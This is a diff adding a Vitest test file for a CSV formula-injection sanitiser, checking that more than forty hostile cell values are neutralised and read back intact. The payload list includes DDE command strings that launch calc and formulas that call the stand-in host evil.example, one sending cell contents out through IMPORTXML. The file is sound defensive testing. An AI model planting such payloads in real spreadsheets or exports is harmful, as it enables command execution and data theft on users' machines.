@@ -1,0 +1,62 @@
+import { parse } from 'csv-parse/sync'
+import { describe, expect, it } from 'vitest'
+import { asWritten, csvBeginning, csvLine, harmless } from './harmless-cells.rules.ts'
+
+const payloads = [
+  '=1+1',
+  "=cmd|'/c calc'!A1",
+  '=HYPERLINK("http://evil.example","click")',
+  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+  '=WEBSERVICE("http://evil.example")',
+  '+1+1',
+  "+cmd|'/c calc'!A1",
+  '-1+1',
+  "-2+3+cmd|'/c calc'!A1",
+  "@SUM(1+1)*cmd|'/c calc'!A1",
+  '@A1',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\0=1+1',
+  '\r\n=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(A1)',
+  '","=1+1',
+  '"=1+1"',
+  "'=1+1",
+  "''=1+1",
+  "'+1",
+  ';=1+1',
+  'a,=1+1',
+  'a\n=1+1',
+  'a\r\n=1+1,"b"',
+  '"',
+  '""',
+  '",""',
+  '=\u0000',
+  '=1+1\u202e',
+  '%0A=1+1',
+  '=DDE("cmd";"/c calc";"x")',
+  '=A1&B1',
+  '-',
+  '+',
+  '@',
+  '=',
+  'O\'Brien & Sons, "Wealth"',
+  '',
+]
+
+describe('C5 a cell', () => {
+  it.each(payloads)('%j begins with nothing that runs, and can be read back', (payload) => {
+    const cell = harmless(payload)
+    expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/)
+    expect(asWritten(cell)).toBe(payload)
+    const [row] = parse(csvBeginning + csvLine([payload, 7, null, payload]), { bom: true, relaxColumnCount: false }) as string[][]
+    expect(row?.map(asWritten)).toEqual([payload, '7', '', payload])
+    expect(parse(csvLine([payload]), {}) as string[][]).toHaveLength(1)
+  })
+
+  it('is one of at least forty hostile ones', () => expect(payloads.length).toBeGreaterThanOrEqual(40))
+})
